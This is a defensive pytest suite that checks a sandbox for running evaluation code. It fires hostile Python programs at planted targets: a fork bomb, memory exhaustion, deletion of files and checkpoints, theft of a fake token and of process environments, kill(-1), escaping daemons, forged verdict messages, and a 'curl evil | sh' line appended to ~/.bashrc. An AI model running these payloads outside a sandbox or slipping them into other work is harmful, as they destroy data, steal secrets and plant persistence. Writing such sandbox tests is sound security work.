"""Hostile programs against the sandbox, as root AND as an unprivileged user.

Every attack runs against planted targets an attacker wants (a Hugging Face token, ~/.bashrc, a
checkpoint, an eval's --output and --data) that are world-readable and world-writable, so that file
permissions do not stop anything: only the sandbox does. Each attack must end failed or timed out,
with every target unchanged (contents, modes, mtimes) and nothing left behind on the host's shared
directories. The killing and output-deletion cases go through the real `retrofit eval` CLI.

Run as root, `test_suite_as_unprivileged_user` creates a throwaway user (`useradd -m`), makes the
interpreter reachable for it (o+x on the directories on its path, restored afterwards) and reruns
this whole file as that user with `runuser`, with the user's real home as the attacked home. Run as
an ordinary user, the cases simply run as that user. RETROFIT_SANDBOX_REPORT=FILE appends one JSON
line per case (uid, case, verdict) for the report.
"""

from __future__ import annotations

import json
import os
import pwd
import secrets
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import textwrap
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

from retrofit.evaluation.humaneval import load_infilling_tasks
from retrofit.evaluation.sandbox import DIR_PREFIX, Sandbox, SandboxLimits

REPO = Path(__file__).resolve().parents[1]
DATA = REPO.parent / "shared" / "data" / "humaneval_infilling"
TIMEOUT = 1.5
IS_ROOT = os.geteuid() == 0
REAL_HOME = os.environ.get("RETROFIT_SANDBOX_REAL_HOME") == "1"  # set for the throwaway user's run
SHARED_DIRS = ("/tmp", "/var/tmp", "/dev/shm", "/run/lock")


def _record(case: str, verdict: str) -> None:
    path = os.environ.get("RETROFIT_SANDBOX_REPORT")
    if path:
        with open(path, "a", encoding="utf-8") as handle:
            handle.write(json.dumps({"uid": os.geteuid(), "user": pwd.getpwuid(os.geteuid()).pw_name,
                                     "case": case, "verdict": verdict}) + "\n")


def _processes_with(*needles: str) -> list[int]:
    """Pids (other than this one) whose command line contains any of `needles`."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if any(needle in cmdline for needle in needles):
            found.append(int(entry.name))
    return found


def _wait_until_gone(*needles: str, seconds: float) -> list[int]:
    deadline = time.monotonic() + seconds
    while _processes_with(*needles) and time.monotonic() < deadline:
        time.sleep(0.05)
    return _processes_with(*needles)


def _snapshot(*roots: Path) -> dict[str, tuple]:
    """Mode, mtime, size and contents of everything under `roots`."""
    state = {}
    for root in roots:
        for path in [root, *sorted(root.rglob("*"))]:
            info = path.lstat()
            content = path.read_bytes() if stat.S_ISREG(info.st_mode) else None
            state[str(path)] = (info.st_mode, info.st_mtime_ns, info.st_size, content)
    return state


@dataclass
class Victim:
    """Targets of the attacks (world-readable and -writable: only the sandbox protects them)."""

    home: Path
    token: Path
    bashrc: Path
    checkpoint: Path
    output: Path
    data: Path
    canary: Path
    host_marker: str  # planted in each shared dir: visible to a program only if it shares them

    def roots(self) -> list[Path]:
        return [self.token.parent, self.bashrc, self.checkpoint, self.output, self.data, self.canary]


def _plant(path: Path, content: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(content)
    path.chmod(0o666)
    return path


@pytest.fixture(scope="module")
def victim() -> Victim:
    base = Path(tempfile.mkdtemp(prefix="retrofit-sbx-victim-"))
    base.chmod(0o755)
    home = Path.home() if REAL_HOME else base / "home"
    token = _plant(home / ".cache" / "huggingface" / "token", "hf_FAKE_TOKEN_do_not_leak\n")
    bashrc = home / ".bashrc"
    if not bashrc.exists():
        _plant(bashrc, "# bashrc\n")
    checkpoint = base / "checkpoints" / "run1"
    _plant(checkpoint / "adapter_model.safetensors", "weights")
    output = base / "eval-output"
    _plant(output / "samples.jsonl", '{"key": "x"}\n')
    data = base / "data"
    _plant(data / "HumanEval.jsonl", '{"task_id": "secret"}\n')
    canary = _plant(base / "canary.txt", "alive")
    for path in [home, *home.rglob("*"), *base.rglob("*")]:
        if path.is_dir():
            path.chmod(0o777)
    marker = f"retrofit-sbx-host-{secrets.token_hex(4)}"
    for directory in SHARED_DIRS:
        if os.access(directory, os.W_OK):
            _plant(Path(directory) / marker, "host")
    planted = Victim(home, token, bashrc, checkpoint, output, data, canary, marker)
    yield planted
    shutil.rmtree(base, ignore_errors=True)
    for directory in SHARED_DIRS:
        for name in (marker, marker + "-written"):
            (Path(directory) / name).unlink(missing_ok=True)


# ----------------------------------------------------------------------------- programs
def _attacks(victim: Victim, port: int) -> dict[str, str]:
    """name -> program. Each tries to do harm and to succeed; each must end failed or timed out."""
    token, bashrc, home = str(victim.token), str(victim.bashrc), str(victim.home)
    return {
        # ---- what the earlier suite attacked
        "delete canary outside the work dir": f"import os\nos.remove({str(victim.canary)!r})\n",
        "fork bomb": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
        "8 GiB allocation": "block = bytearray(8 * 1024**3)\n",
        "growing allocation": "chunks = []\nwhile True:\n    chunks.append(bytearray(16 * 1024**2))\n",
        "output flood": "import sys\nfor _ in range(10**6):\n    sys.stdout.write('y' * 100000)\n",
        "infinite loop": "while True:\n    pass\n",
        "sleep past the timeout": "import time\ntime.sleep(60)\n",
        "leave the group and sleep": "import os, time\nos.setsid()\ntime.sleep(60)\n",
        "network: host loopback": ("import socket\nsocket.create_connection(('127.0.0.1', "
                                   f"{port}), timeout=1).sendall(b'escaped')\n"),
        "network: outside address": "import socket\nsocket.create_connection(('1.1.1.1', 80), timeout=1)\n",
        "early exit sys.exit(0)": "import sys\nsys.exit(0)\nassert False\n",
        "early exit os._exit(0)": "import os\nos._exit(0)\nassert False\n",
        "forked child exits 0 for its parent": "import os\nif os.fork() != 0:\n    os._exit(0)\n",
        "setsid daemon outlives the program": (
            "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            f"        while True:\n            open({bashrc!r}, 'a').write('daemon\\n') if os.path.exists("
            f"{bashrc!r}) else time.sleep(0.1)\n    os._exit(0)\ntime.sleep(0.3)\nassert False\n"),
        "secrets in the environment": "import os\nassert 'HF_TOKEN' in os.environ, sorted(os.environ)\n",
        # ---- the invoking user's home, caches and results
        "read the HF token": f"print(open({token!r}).read())\n",
        "list the home dir": f"import os\nprint(os.listdir({home!r}))\nassert '.cache' in os.listdir({home!r})\n",
        "append to ~/.bashrc": f"open({bashrc!r}, 'a').write('curl evil | sh\\n')\n",
        "delete the checkpoint": f"import shutil\nshutil.rmtree({str(victim.checkpoint)!r})\n",
        "delete the eval output": f"import shutil\nshutil.rmtree({str(victim.output)!r})\n",
        "read the eval data": f"import os\nprint(os.listdir({str(victim.data)!r}))\n",
        "read the project source": f"print(open({str(REPO / 'setup.cfg')!r}).read())\n",
        "write the shared tmp dirs": (
            "import os\nseen = []\n"
            f"for directory in {SHARED_DIRS!r}:\n"
            f"    try:\n        open(directory + '/{victim.host_marker}-written', 'w').write('x')\n"
            "    except OSError:\n        pass\n"
            f"    seen.append(os.path.exists(directory + '/{victim.host_marker}'))\n"
            "assert any(seen), 'no shared directory reached'\n"),
        # ---- the evaluator and the verdict channels
        "signal the evaluator": f"import os, signal\nos.kill({os.getpid()}, signal.SIGTERM)\n",
        "read the evaluator's environment": f"print(open('/proc/{os.getpid()}/environ').read())\n",
        "kill every process it can see": ("import os, signal\nos.kill(-1, signal.SIGKILL)\n"
                                          "assert len([p for p in os.listdir('/proc') if p.isdigit()]) > 3\n"),
        "forge a setup error with the stolen token": _FORGER + "raise RuntimeError('forged')\n",
        "forge a setup error, exit with the setup status": _FORGER + "os._exit(125)\n",
    }


# Finds the launcher's pass token in its frames (the documented limit), then writes forged setup
# errors and forged results to every descriptor it has.
_FORGER = textwrap.dedent("""
    import os, sys
    frame, token = sys._getframe(), None
    while frame is not None:
        if isinstance(frame.f_locals.get('token'), bytes):
            token = frame.f_locals['token']
        frame = frame.f_back
    assert token is not None
    forged = [b'SandboxSetupError setup ' + token + b' forged', b'error forged setup failure',
              b'ready', token + b' error forged']
    for fd in range(3, 64):
        for message in forged:
            try:
                os.write(fd, message + b'\\n')
            except OSError:
                pass
    """)

HONEST = {"honest pass": "assert sum([1, 2]) == 3\n", "honest failure": "assert 1 == 2\n"}


@pytest.fixture(scope="module")
def outcomes(victim):
    """Every attack, plus honest programs, in ONE run_many batch (also: nothing aborts the run)."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(0.2)
    os.environ["HF_TOKEN"] = "hf_env_secret"
    before = _snapshot(*victim.roots())
    try:
        sandbox = Sandbox(SandboxLimits(timeout_s=TIMEOUT, memory_bytes=1024**3, processes=8,
                                        output_bytes=256 * 1024), workers=8)
        if not sandbox.isolation.isolated and not IS_ROOT:
            pytest.skip(f"no isolation mechanism for this user here: {sandbox.isolation.warning}")
        programs = {**_attacks(victim, server.getsockname()[1]), **HONEST}
        results = sandbox.run_many(list(programs.values()))
        try:
            connection = server.accept()[0]
            connection.close()
            reached = True
        except OSError:
            reached = False
    finally:
        os.environ.pop("HF_TOKEN", None)
        server.close()
    leftovers = _wait_until_gone(f"{DIR_PREFIX}{os.getpid()}", seconds=3.0)
    after = _snapshot(*victim.roots())
    return {"sandbox": sandbox, "results": dict(zip(programs, results)), "server_reached": reached,
            "leftovers": leftovers, "before": before, "after": after}


@pytest.mark.parametrize("case", list(_attacks(Victim(*[Path("/x")] * 7, "m"), 0)))
def test_attack_fails_and_changes_nothing(outcomes, victim, case):
    result = outcomes["results"][case]
    _record(case, result.verdict)
    assert outcomes["sandbox"].isolation.isolated, outcomes["sandbox"].isolation.warning
    assert not result.passed, (case, result.verdict, result.stdout, result.stderr)
    assert result.verdict.startswith("failed:") or result.verdict == "timed out"
    assert "hf_FAKE_TOKEN" not in result.stdout + result.stderr
    assert "hf_env_secret" not in result.stdout + result.stderr
    assert len(result.stdout) <= outcomes["sandbox"].keep_output_bytes


def test_targets_and_host_unchanged(outcomes, victim):
    assert outcomes["after"] == outcomes["before"]
    assert outcomes["leftovers"] == [], "sandboxed processes (e.g. the setsid daemon) survived"
    assert not outcomes["server_reached"], "a program reached the host's loopback"
    for directory in SHARED_DIRS:
        assert not (Path(directory) / f"{victim.host_marker}-written").exists(), directory


def test_forged_messages_decide_only_the_forger(outcomes):
    """Forged setup errors and results are that program's failure; nothing raised or aborted."""
    results = outcomes["results"]
    assert results["forge a setup error with the stolen token"].verdict == "failed:RuntimeError"
    assert results["forge a setup error, exit with the setup status"].verdict == "failed:exit125"
    assert results["honest pass"].passed and results["honest failure"].verdict == "failed:AssertionError"
    for case in HONEST:
        _record(case, results[case].verdict)


def test_specific_verdicts(outcomes):
    results = outcomes["results"]
    assert results["8 GiB allocation"].verdict == "failed:MemoryError"
    for case in ("infinite loop", "sleep past the timeout", "leave the group and sleep"):
        assert results[case].verdict == "timed out", case
    for case in ("read the HF token", "delete the eval output", "read the eval data", "delete the checkpoint"):
        assert results[case].verdict in ("failed:FileNotFoundError", "failed:PermissionError"), case


def test_memory_budget_covers_all_processes():
    """A program and three children each try to hold 200 MiB against a 256 MiB budget."""
    budget = 256 * 1024**2
    sandbox = Sandbox(SandboxLimits(timeout_s=20, memory_bytes=budget, processes=4), workers=1)
    program = textwrap.dedent("""
        import os
        def hold(limit=200 * 1024**2, step=4 * 1024**2):
            chunks = []
            try:
                while len(chunks) * step < limit:
                    chunks.append(bytearray(step))
            except MemoryError:
                pass
            return chunks
        reader, writer = os.pipe()
        for _ in range(3):
            if os.fork() == 0:
                held = hold()
                os.write(writer, b'%d\\n' % (len(held) * 4))
                os._exit(0)
        mine = hold()
        os.close(writer)
        total = len(mine) * 4 + sum(int(n) for n in os.read(reader, 1000).split())
        print('held MiB', total)
        assert total >= 4 * 200, 'could not hold 800 MiB'
        """)
    result = sandbox.run(program)
    _record("aggregate memory: program + 3 children x 200 MiB, budget 256 MiB",
            f"{result.verdict} ({result.stdout.strip()})")
    described = sandbox.isolation.describe()["memory_limit"]
    assert described["budget_bytes"] == budget
    assert not result.passed
    if described["mode"] == "rlimit-as":
        assert described["per_process_bytes"] * described["processes"] <= budget
        held = int(result.stdout.split("held MiB")[1].split()[0])
        assert held * 1024**2 <= budget, result.stdout


# ----------------------------------------------------------------------------- the real CLI
def _cli() -> list[str]:
    script = Path(sys.executable).with_name("retrofit")
    if script.exists():
        return [str(script)]
    return [sys.executable, "-c", "import sys; from retrofit.cli import main; sys.exit(main())"]


def _first_tasks(count: int):
    if not DATA.is_dir():
        pytest.skip(f"HumanEval infilling data not found at {DATA}")
    return load_infilling_tasks("single-line", DATA)[:count]


def _completions(path: Path, attack_lines: list[str]) -> Path:
    """One completion per task: the attack (a raw completion may span lines), then the real line,
    so the program is valid and reaches the attack whenever the function runs."""
    tasks = _first_tasks(len(attack_lines))
    with open(path, "w", encoding="utf-8") as handle:
        for task, attack in zip(tasks, attack_lines):
            indent = task.canonical_solution[: len(task.canonical_solution) - len(task.canonical_solution.lstrip())]
            completion = f"{indent}{attack}\n{task.canonical_solution}"
            handle.write(json.dumps({"task_id": task.task_id, "completion": completion}) + "\n")
    return path


def _start_cli(completions: Path, output: Path, tmpdir: Path, limit: int) -> subprocess.Popen:
    env = {**os.environ, "TMPDIR": str(tmpdir), "PYTHONPATH": str(REPO)}
    return subprocess.Popen(
        [*_cli(), "eval", "humaneval-infill-single-line", "--completions", str(completions),
         "--data", str(DATA), "--output", str(output), "--limit", str(limit), "--workers", "2",
         "--no-progress"], env=env, cwd=str(tmpdir), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        text=True)


def test_cli_output_deletion_and_secrets(victim, tmp_path):
    """Through `retrofit eval`: programs go for the eval's own --output, --data, the token, the
    checkpoint; every one fails, the run finishes and writes its results, nothing changed."""
    output = tmp_path / "out"
    attacks = {
        "delete its own --output": f"__import__('shutil').rmtree({str(output)!r})",
        "read the HF token": f"print(open({str(victim.token)!r}).read())",
        "delete --data, list the data": (f"__import__('shutil').rmtree({str(DATA)!r}); "
                                         f"__import__('os').listdir({str(victim.data)!r})"),
        "append to ~/.bashrc, delete the checkpoint": (
            f"open({str(victim.bashrc)!r}, 'a').write('evil'); "
            f"__import__('shutil').rmtree({str(victim.checkpoint)!r})"),
    }
    completions = _completions(tmp_path / "completions.jsonl", list(attacks.values()))
    before = _snapshot(*victim.roots(), DATA)
    cli = _start_cli(completions, output, tmp_path, len(attacks))
    _, stderr = cli.communicate(timeout=120)
    assert cli.returncode == 0, stderr
    samples = [json.loads(line) for line in (output / "samples.jsonl").read_text().splitlines()]
    summary = json.loads((output / "summary.json").read_text())
    assert [s["passed"] or s["raw_passed"] for s in samples] == [False] * len(attacks), samples
    assert summary["settings"]["sandbox"]["mechanism"] == "bubblewrap"
    assert _snapshot(*victim.roots(), DATA) == before
    for name, sample in zip(attacks, samples):
        _record(f"CLI: {name}", f"raw {sample['raw_verdict']}, normalised {sample['verdict']}")


@pytest.mark.parametrize("how", ["SIGKILL", "SIGTERM", "SIGINT"])
def test_cli_killed_mid_run_leaves_nothing(tmp_path, how):
    """`retrofit eval` killed while its programs run (each with a setsid daemon and an exec'd
    child): within 2 s no sandboxed process is left, and no temp dir."""
    sleeper = f"{4000 + secrets.randbelow(1000)}.{os.getpid() % 1000}"
    attack = ("import os, subprocess, time; subprocess.Popen(['sleep', '" + sleeper + "']); "
              "(os.fork() == 0 and (os.setsid(), time.sleep(600))); time.sleep(600)")
    completions = _completions(tmp_path / "completions.jsonl", [attack, attack])
    cli = _start_cli(completions, tmp_path / "out", tmp_path, 2)
    marker = f"{DIR_PREFIX}{cli.pid}"
    deadline = time.monotonic() + 60
    while len(_processes_with(sleeper)) < 2 and time.monotonic() < deadline and cli.poll() is None:
        time.sleep(0.1)
    assert len(_processes_with(sleeper)) >= 2 and _processes_with(marker), cli.poll()
    cli.send_signal(getattr(signal, how))
    _, stderr = cli.communicate(timeout=20)
    left = _wait_until_gone(marker, sleeper, seconds=2.0)
    _record(f"CLI killed with {how} mid-run", f"exit {cli.returncode}, {len(left)} processes left")
    assert left == [], [Path(f"/proc/{pid}/cmdline").read_bytes() for pid in left]
    assert [p.name for p in tmp_path.glob(DIR_PREFIX + "*")] == []
    if how == "SIGINT":
        assert cli.returncode != 0
        assert "Exception in thread" not in stderr and "Exception ignored" not in stderr, stderr
        assert stderr.count("Traceback") <= 1, stderr


# ----------------------------------------------------------------------------- as another user
def _grant_search(paths: list[Path]) -> list[tuple[Path, int]]:
    """o+x on every directory on the way to `paths` that lacks it; returns (dir, old mode) pairs."""
    changed = []
    for path in paths:
        for directory in reversed(path.parents):
            mode = stat.S_IMODE(directory.stat().st_mode)
            if not mode & stat.S_IXOTH and directory not in [d for d, _ in changed]:
                directory.chmod(mode | stat.S_IXOTH)
                changed.append((directory, mode))
    return changed


@pytest.fixture
def throwaway_user():
    """A new user (useradd -m) that can run this interpreter; removed, and modes restored, after."""
    if not IS_ROOT:
        pytest.skip("not root: this run already is the unprivileged one")
    missing = [tool for tool in ("useradd", "userdel", "runuser") if shutil.which(tool) is None]
    if missing:
        pytest.skip(f"cannot create or switch to another user here: {missing} not installed")
    name = f"rsbx{os.getpid()}"
    subprocess.run(["useradd", "-m", "-s", "/bin/sh", name], check=True, capture_output=True)
    python = Path(sys.executable)
    changed = _grant_search([python, python.resolve(), Path(sys.base_prefix) / "lib", REPO / "tests",
                             DATA / "SOURCE.md"])
    try:
        yield pwd.getpwnam(name)
    finally:
        for directory, mode in reversed(changed):
            directory.chmod(mode)
        subprocess.run(["userdel", "-r", name], capture_output=True, check=False)


def test_suite_as_unprivileged_user(throwaway_user):
    """This file and test_sandbox_lifecycle.py again, run by an ordinary user (runuser), attacking
    that user's own home."""
    if os.environ.get("RETROFIT_SANDBOX_NESTED"):
        pytest.skip("already the nested run")
    shared = Path(tempfile.mkdtemp(prefix="retrofit-sbx-report-"))
    try:
        shared.chmod(0o777)
        report = shared / "report.jsonl"
        env = {"HOME": throwaway_user.pw_dir, "USER": throwaway_user.pw_name, "LANG": "C.UTF-8",
               "PATH": "/usr/local/bin:/usr/bin:/bin", "PYTHONPATH": str(REPO),
               "PYTHONDONTWRITEBYTECODE": "1", "RETROFIT_SANDBOX_REAL_HOME": "1",
               "RETROFIT_SANDBOX_NESTED": "1", "RETROFIT_SANDBOX_REPORT": str(report)}
        command = ["runuser", "-u", throwaway_user.pw_name, "--", "env", "-i",
                   *[f"{key}={value}" for key, value in env.items()], sys.executable, "-m", "pytest",
                   "-q", "-p", "no:cacheprovider", str(Path(__file__)),
                   str(Path(__file__).with_name("test_sandbox_lifecycle.py"))]
        done = subprocess.run(command, cwd=str(REPO), capture_output=True, text=True, timeout=300,
                              check=False)
        summary = done.stdout.strip().splitlines()[-1] if done.stdout.strip() else ""
        assert done.returncode == 0, done.stdout[-4000:] + done.stderr[-2000:]
        assert "failed" not in summary and summary.count("skipped") <= 1, summary
        lines = [json.loads(line) for line in report.read_text().splitlines()]
        if os.environ.get("RETROFIT_SANDBOX_REPORT"):
            with open(os.environ["RETROFIT_SANDBOX_REPORT"], "a", encoding="utf-8") as handle:
                handle.write(report.read_text())
    finally:
        shutil.rmtree(shared, ignore_errors=True)
    assert {line["uid"] for line in lines} == {throwaway_user.pw_uid}
    cases = {line["case"] for line in lines}
    expected = set(_attacks(Victim(*[Path("/x")] * 7, "m"), 0)) | set(HONEST)
    assert expected <= cases, expected - cases
    assert any(case.startswith("CLI killed with SIGKILL") for case in cases)
